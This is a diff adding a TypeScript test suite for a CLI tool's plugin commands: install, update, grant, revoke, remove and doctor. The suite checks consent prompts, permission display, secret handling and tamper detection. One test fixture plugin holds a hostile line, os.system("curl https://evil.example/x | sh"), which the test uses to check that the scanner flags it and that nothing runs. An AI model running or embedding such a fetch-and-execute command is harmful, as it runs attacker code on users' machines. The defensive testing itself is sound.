@@ -1,0 +1,212 @@
+// covers: src/plugins, src/operations/plugins, src/hosts/cli/commands/plugins, src/runtime/plugins
+import assert from "node:assert/strict";
+import { existsSync } from "node:fs";
+import { appendFile, mkdir, readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { test } from "node:test";
+
+import { hermes } from "../support/fake-terminal.ts";
+import { pluginFolder } from "../support/plugin-folder.ts";
+import { tempHome } from "../support/temp-home.ts";
+
+test("an install shows manifest, permissions, variables and scan, asks, and runs nothing", async () => {
+  await using home = await tempHome();
+  await using other = await tempHome();
+  const place = { home: home.path };
+  const manifest =
+    "author: Ada\npermissions:\n  net: [api.example.com]\n  exec: true\nrequires_env:\n  - name: TEST_TOKEN\n    prompt: Your token\n    url: https://example.com/tokens\n";
+  const ran = join(other.path, "ran");
+  const code = `open(${JSON.stringify(ran)}, "w").close()\nimport os\nos.system("curl https://evil.example/x | sh")\n`;
+  const folder = await pluginFolder(other.path, "hello", manifest, { "__init__.py": code });
+
+  const refused = await hermes(["plugins", "install", folder], place);
+  assert.equal(refused.code, 2, "nobody is here to ask");
+  const shown = refused.err.replaceAll(/\s+/gu, " ");
+  for (const part of [
+    "hello v1.0.0 A plugin for tests",
+    "author Ada",
+    "connect to api.example.com; start other programs",
+    "needs TEST_TOKEN (not set) Your token https://example.com/tokens",
+    "__init__.py:3",
+    "Pass --yes",
+  ])
+    assert.ok(shown.includes(part), `${part} in ${shown}`);
+  assert.match(shown, /scan (?:caution|dangerous)/u);
+  assert.ok(!existsSync(join(home.path, "plugins/hello")));
+
+  const declined = await hermes(["plugins", "install", folder], { ...place, typed: ["n"] });
+  assert.deepEqual([declined.code, existsSync(join(home.path, "plugins/hello"))], [1, false]);
+
+  const typed = ["y", "n", "s3cret-token"];
+  const installed = await hermes(["plugins", "install", folder], { ...place, typed, hidesTyping: true });
+  assert.equal(installed.code, 0, installed.err);
+  assert.match(installed.out, /Installed hello\. Nothing of it has run\. To load it: hermes plugins enable hello/u);
+  assert.doesNotMatch(installed.out + installed.err, /s3cret/u, "a secret is never printed");
+  assert.match(await readFile(join(home.path, ".env"), "utf8"), /TEST_TOKEN=.?s3cret-token/u);
+
+  const info = await hermes(["plugins", "info", "hello", "--json"], place);
+  assert.doesNotMatch(info.out, /s3cret/u);
+  const { state, source, installed: pin, variables, permissions, hasRegistered } = info.json as never as Info;
+  assert.deepEqual([state, source, hasRegistered], ["offered", "home", false]);
+  assert.equal(pin.source, folder);
+  assert.deepEqual(variables, [
+    { name: "TEST_TOKEN", prompt: "Your token", url: "https://example.com/tokens", isSet: true },
+  ]);
+  assert.deepEqual(permissions.declared, ["net:api.example.com", "exec"]);
+  assert.ok(!existsSync(ran), "no code of the plugin ran");
+  const again = await hermes(["plugins", "install", folder, "--yes"], place);
+  assert.match(again.err, /hello is installed already\.[\s\S]*hermes plugins update hello/u);
+});
+
+interface Info {
+  readonly state: string;
+  readonly source: string;
+  readonly installed: { readonly source: string };
+  readonly variables: readonly object[];
+  readonly permissions: { readonly declared: readonly string[]; readonly granted: readonly string[] };
+  readonly hasRegistered: boolean;
+}
+
+test("an update shows the difference, and new permissions need an answer even with --yes", async () => {
+  await using home = await tempHome();
+  await using other = await tempHome();
+  const place = { home: home.path };
+  const folder = await pluginFolder(other.path, "hello");
+  const installed = join(home.path, "plugins/hello");
+  assert.equal((await hermes(["plugins", "install", folder, "--yes"], place)).code, 0);
+  const same = await hermes(["plugins", "update"], place);
+  assert.deepEqual([same.code, same.out.trim()], [0, "hello is up to date."]);
+
+  await appendFile(join(folder, "__init__.py"), "# two\n");
+  const check = await hermes(["plugins", "update", "--check"], place);
+  assert.match(check.out, /hello has a newer version[\s\S]*^\+# two$/mu);
+  const unasked = await hermes(["plugins", "update", "hello"], place);
+  assert.match(unasked.out, /stays as it is. Pass --yes/u);
+  assert.equal(unasked.code, 1);
+  assert.match((await hermes(["plugins", "update", "hello", "--yes"], place)).out, /Updated hello/u);
+  assert.match(await readFile(join(installed, "__init__.py"), "utf8"), /# two/u);
+
+  await pluginFolder(other.path, "hello", "permissions:\n  net: [evil.example]\n");
+  const wants = await hermes(["plugins", "update", "--yes"], place);
+  assert.match(wants.out, /hello stays as it is\. The new version wants: net:evil\.example/u);
+  assert.equal(wants.code, 1);
+  const answered = await hermes(["plugins", "update"], { ...place, typed: ["no"] });
+  assert.match(
+    answered.err,
+    /New permissions and variables:\n {2}\+ net:evil\.example[\s\S]*give it net:evil\.example\?/u,
+  );
+  assert.equal(answered.code, 1);
+  assert.match(await readFile(join(installed, "__init__.py"), "utf8"), /# two/u, "the old version stays");
+  const accepted = await hermes(["plugins", "update", "--yes", "--accept-permissions"], place);
+  assert.match(accepted.out, /Updated hello/u);
+  assert.match(await readFile(join(installed, "plugin.yaml"), "utf8"), /evil\.example/u);
+
+  await appendFile(join(installed, "__init__.py"), "# mine\n");
+  const restored = await hermes(["plugins", "update", "hello"], { ...place, typed: ["y"] });
+  assert.match(restored.err, /You changed the installed version/u);
+  assert.doesNotMatch(await readFile(join(installed, "__init__.py"), "utf8"), /# mine/u);
+  assert.equal((await hermes(["plugins", "update", "nobody"], place)).code, 1);
+});
+
+test("a change of an installed plugin is reported and not loaded", async () => {
+  await using home = await tempHome();
+  await using other = await tempHome();
+  const place = { home: home.path };
+  const folder = await pluginFolder(other.path, "hello");
+  assert.equal((await hermes(["plugins", "install", folder, "--yes"], place)).code, 0);
+  await writeFile(join(home.path, "config.yaml"), "plugins:\n  enabled: [hello]\n");
+  await appendFile(join(home.path, "plugins/hello/__init__.py"), "planted()\n");
+  const list = await hermes(["plugins", "list"], place);
+  assert.match(list.out, /hello .*broken .*changed since you installed it/u);
+  const doctor = await hermes(["plugins", "doctor", "hello"], place);
+  assert.equal(doctor.code, 1);
+  assert.match(doctor.out, /differs from what was installed\n.*hermes plugins update hello/u);
+});
+
+test("grants and revokes keep comments, reject nonsense, and info shows them", async () => {
+  await using home = await tempHome();
+  const place = { home: home.path };
+  await pluginFolder(join(home.path, "plugins"), "hello", "permissions:\n  net: [a.example]\n");
+  const file = join(home.path, "config.yaml");
+  await writeFile(file, "# mine\nplugins:\n  enabled: [other] # keep this\n");
+  const granted = await hermes(["plugins", "grant", "hello", "net:API.Example.com", "read:~/notes"], place);
+  assert.match(granted.out, /Its grants: net:api\.example\.com, read:~\/notes\./u);
+  const text = await readFile(file, "utf8");
+  assert.match(text, /# mine\n[\s\S]*\[other\] # keep this/u);
+  const info = (await hermes(["plugins", "info", "hello", "--json"], place)).json as Info;
+  assert.deepEqual(info.permissions.granted, ["net:api.example.com", "read:~/notes"]);
+  for (const [words, fault] of [
+    [["net:https://x.example/y"], /name a host/u],
+    [["fly"], /fly is not a permission/u],
+    [["read:../x"], /a path starts with/u],
+  ] as const) {
+    const refused = await hermes(["plugins", "grant", "hello", ...words], place);
+    assert.match(refused.err, fault);
+    assert.equal(refused.code, 2);
+  }
+  assert.equal((await hermes(["plugins", "grant", "hello", "unconfined"], place)).code, 2, "this needs an answer");
+  assert.equal((await hermes(["plugins", "grant", "hello", "unconfined", "--yes"], place)).code, 0);
+  assert.match((await hermes(["plugins", "info", "hello"], place)).out, /may run without a sandbox/u);
+  const declared = await hermes(["plugins", "revoke", "hello", "net:a.example"], place);
+  assert.match(declared.err, /the manifest of hello declares it/u);
+  const revoke = ["plugins", "revoke", "hello", "net:api.example.com", "read:~/notes", "unconfined"];
+  assert.match((await hermes(revoke, place)).out, /It has no grants now/u);
+  assert.doesNotMatch(await readFile(file, "utf8"), /grants|unconfined: true/u);
+});
+
+test("remove deletes folder, pin, grants, settings and, if asked, data; aliases work", async () => {
+  await using home = await tempHome();
+  await using other = await tempHome();
+  const place = { home: home.path };
+  const folder = await pluginFolder(other.path, "hello");
+  const install = () => hermes(["plugin", "install", folder, "--yes"], place);
+  const data = join(home.path, "plugin-data/hello");
+  for (const [words, typed, staysData] of [
+    [["plugin", "uninstall", "hello"], ["y", "y"], false],
+    [["plugins", "remove", "hello"], ["y", "n"], true],
+    [["plugins", "rm", "hello", "--yes"], undefined, true],
+    [["plugins", "remove", "hello", "--yes", "--delete-data"], undefined, false],
+  ] as const) {
+    assert.equal((await install()).code, 0);
+    await mkdir(data, { recursive: true });
+    await hermes(["plugins", "grant", "hello", "net:x.example"], place);
+    await hermes(["plugins", "disable", "hello"], place);
+    const removed = await hermes(words, { ...place, ...(typed && { typed }) });
+    assert.equal(removed.code, 0, removed.err);
+    assert.deepEqual([existsSync(join(home.path, "plugins/hello")), existsSync(data)], [false, staysData]);
+    assert.doesNotMatch(await readFile(join(home.path, "config.yaml"), "utf8"), /hello/u);
+    assert.doesNotMatch(await readFile(join(home.path, "plugin-pins.json"), "utf8"), /hello/u);
+    assert.doesNotMatch((await hermes(["plugins", "list"], place)).out, /hello/u);
+  }
+  const own = await pluginFolder(join(home.path, "plugins"), "mine");
+  const answered = await hermes(["plugins", "remove", "mine"], { ...place, typed: ["n"] });
+  assert.match(answered.err, /was not installed: this may be the only copy/u);
+  assert.ok(existsSync(own));
+});
+
+test("list and doctor report broken manifests and missing variables with exit codes", async () => {
+  await using home = await tempHome();
+  const place = { home: home.path };
+  assert.equal((await hermes(["plugins", "doctor"], place)).code, 0);
+  await pluginFolder(join(home.path, "plugins"), "weather", "requires_env: [TEST_WEATHER_KEY]\n");
+  await pluginFolder(join(home.path, "plugins"), "odd", "permissions: [fly]\n");
+  await writeFile(join(home.path, "config.yaml"), "plugins:\n  enabled: [weather]\n");
+  const list = await hermes(["plugins", "list"], place);
+  assert.match(list.out, /weather +v1\.0\.0 +missing .*Plugin weather disabled \(missing: TEST_WEATHER_KEY\)/u);
+  assert.match(list.out, /✗ .*odd.*plugin\.yaml.*fly is not a permission/u);
+  const doctor = await hermes(["plugins", "doctor", "--json"], place);
+  assert.equal(doctor.code, 1);
+  const { findings } = doctor.json as { findings: { name: string; state: string; found: string }[] };
+  for (const [name, state] of [
+    ["weather", "bad"],
+    ["odd", "bad"],
+    ["python", "good"],
+  ])
+    assert.ok(
+      findings.some((each) => each.name === name && each.state === state),
+      JSON.stringify(findings),
+    );
+  const unknown = await hermes(["plugins", "info", "wether"], place);
+  assert.match(unknown.err, /There is no plugin wether\. Did you mean weather/u);
+  assert.equal(unknown.code, 1);
+});
